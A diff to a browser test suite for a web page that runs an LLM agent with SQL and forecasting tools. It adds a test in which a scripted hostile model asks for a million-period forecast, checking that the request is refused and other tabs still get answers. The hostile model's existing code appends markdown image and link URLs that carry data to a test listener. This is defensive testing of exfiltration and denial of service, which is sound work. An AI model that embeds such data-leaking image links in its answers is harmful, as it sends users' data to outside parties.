@@ -14,9 +14,12 @@ Selenium through Debian's chromium-driver.
 * A session whose tab is closed ends, and its sandbox worker with it.
 * Every response carries the page's policy; foreign Host and Origin
   headers are refused.
+* A forecast of a million periods in one tab is refused, and another tab's
+  question is answered meanwhile.
 """
 import ctypes
 import http.server
+import json
 import os
 import shutil
 import signal
@@ -29,7 +32,8 @@ import urllib.request
 import pytest
 
 from harness.model_endpoint import ChatEndpoint
-from harness.scripted_model import ScriptedChatModel, parse_react_prompt
+from harness.scripted_model import (ScriptedChatModel, action, final_answer, forecast_answer,
+                                    parse_react_prompt)
 
 ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
 CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
@@ -98,7 +102,9 @@ class HostileModel(ScriptedChatModel):
     """The scripted model, which for questions naming a leak puts an image
     and a link to `listener` into its answer ("leak answer"), into its input
     to the SQL agent ("leak tool"), or has the database return one ("leak
-    row") or quote one in a refusal ("leak error")."""
+    row") or quote one in a refusal ("leak error"); for a "huge forecast" it
+    asks the forecast tool for a million periods over two equal dates, then
+    answers with what the tool said."""
 
     listener: str = ""
 
@@ -112,7 +118,13 @@ class HostileModel(ScriptedChatModel):
         ] + self.queries
 
     def _conversation_turn(self, prompt):
-        question = parse_react_prompt(prompt)[0]
+        question, steps = parse_react_prompt(prompt)
+        if "huge forecast" in question:
+            seen = {tool: observation for tool, _, observation in steps}
+            if "ForecastTool" in seen:
+                return final_answer(forecast_answer(seen["ForecastTool"]))
+            request = {"data_input": {"date": ["2024-01-01", "2024-01-01"], "values": [1, 2]}, "period": 10 ** 6}
+            return action("A long forecast.", "ForecastTool", json.dumps(request))
         turn = super()._conversation_turn(prompt)
         if "leak answer" in question and "Final Answer:" in turn:
             turn += " ![a](%s/leak-answer?d=41835.00) [see](%s/leak-answer-link)" % (self.listener, self.listener)
@@ -438,6 +450,39 @@ def test_a_closed_tab_ends_its_session_and_its_sandbox_worker(page, browser):
     started = time.monotonic()
     wait_for(lambda: not (sandbox_workers(pid) & mine), CLOSED_SECONDS + 30, "the closed session's worker to end")
     print("closed tab to its sandbox worker gone: %.1f s" % (time.monotonic() - started))
+
+
+HUGE_FORECAST = "Forecast the sales for a million days. (huge forecast)"
+REFUSAL = "refused: 1000000 periods is more than this page forecasts; ask for at most 1000 periods."
+# The other tab's answer comes within this many seconds of the huge
+# forecast's question: 2.3 s when measured; 19 s when the package's own tool
+# took the request, holding the page's GIL for seconds at a time.
+ANSWER_BESIDE_FORECAST = 10
+
+
+def test_a_huge_forecast_is_refused_and_another_tab_is_answered_meanwhile(page_url, browser):
+    first = browser.current_window_handle
+    browser.switch_to.new_window("tab")
+    other = browser.current_window_handle
+    open_page(browser, page_url)
+    browser.switch_to.new_window("tab")
+    hostile = browser.current_window_handle
+    open_page(browser, page_url)
+    send(browser, HUGE_FORECAST)
+    sent = time.monotonic()
+    browser.switch_to.window(other)
+    ask(browser, *QUESTIONS[0])
+    seconds = time.monotonic() - sent
+    print("another tab's answer beside a refused huge forecast: %.1f s" % seconds)
+    assert seconds < ANSWER_BESIDE_FORECAST
+    browser.switch_to.window(hostile)
+    answered(browser, HUGE_FORECAST, REFUSAL)
+    # The refusal is the answer and an error step of the run.
+    assert "the forecast failed: " + REFUSAL in text_content(browser)
+    for handle in (hostile, other):
+        browser.switch_to.window(handle)
+        browser.close()
+    browser.switch_to.window(first)
 
 
 def headers_of(url, headers=None):
